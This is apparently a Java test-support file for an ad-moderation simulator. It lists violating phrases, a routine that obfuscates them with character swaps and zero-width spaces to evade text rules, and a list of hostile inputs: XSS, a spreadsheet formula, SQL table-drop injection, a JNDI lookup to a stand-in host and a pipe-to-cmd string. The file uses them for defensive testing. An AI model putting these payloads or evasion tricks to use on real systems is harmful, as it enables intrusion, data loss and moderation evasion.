package io.northstar.jobs.simulate;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** The phrases that make an ad violate, and how they are hidden from text rules. */
final class Phrases {
    /** Phrases per policy and language. */
    static final int PER_POLICY = 3;
    /** How many of them the text rules know. */
    static final int KNOWN_TO_RULES = 2;
    /** How often each is used. */
    static final double[] SHARES = {0.45, 0.35, 0.20};

    /** The new phrases of the evasion wave, the same in every language. */
    static final List<String> EVASIONS =
            List.of("moonwater drops", "lunar salt tonic", "starlight foot pads", "m00nwater drops");

    /** What attackers write where a program reads: each must come out as plain text everywhere. */
    static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "=HYPERLINK(\"https://pages.example/\",\"open\")",
            "\u202Egnippihs eerf\u202C",
            "She said \"yes\", we said 'ok'\nsecond line, with a comma; and a tab\t.",
            "{{7*7}} ${jndi:ldap://pages.example/a} %s %n",
            "'; DROP TABLE decisions; --",
            "+1+1|cmd",
            "\u200Bzero\u200Bwidth\u0000null");

    private static final String ZERO_WIDTH_SPACE = "\u200B";

    /** Per language, policy and phrase, in this order, the phrase. */
    static List<String> plain() {
        return Wordings.ofAll(Policy.IDS);
    }

    /** The same, spelled so that a text rule does not see it. */
    static List<String> obfuscated() {
        return plain().stream().map(Phrases::hidden).toList();
    }

    /** The phrases of a policy that its text rule knows, in all languages. */
    static List<String> known(Policy policy) {
        return Market.LANGUAGES.stream()
                .flatMap(language -> Wordings.of(language, policy.id()).stream().limit(KNOWN_TO_RULES))
                .toList();
    }

    private static String hidden(String phrase) {
        String swapped = IntStream.range(0, phrase.length())
                .mapToObj(i -> swapped(phrase.charAt(i)))
                .collect(Collectors.joining());
        return swapped.equals(phrase) ? phrase.charAt(0) + ZERO_WIDTH_SPACE + phrase.substring(1) : swapped;
    }

    private static String swapped(char letter) {
        return switch (letter) {
            case 'a' -> "@";
            case 'e' -> "3";
            case 'i' -> "1";
            case 'o' -> "0";
            default -> String.valueOf(letter);
        };
    }

    private Phrases() {}
}
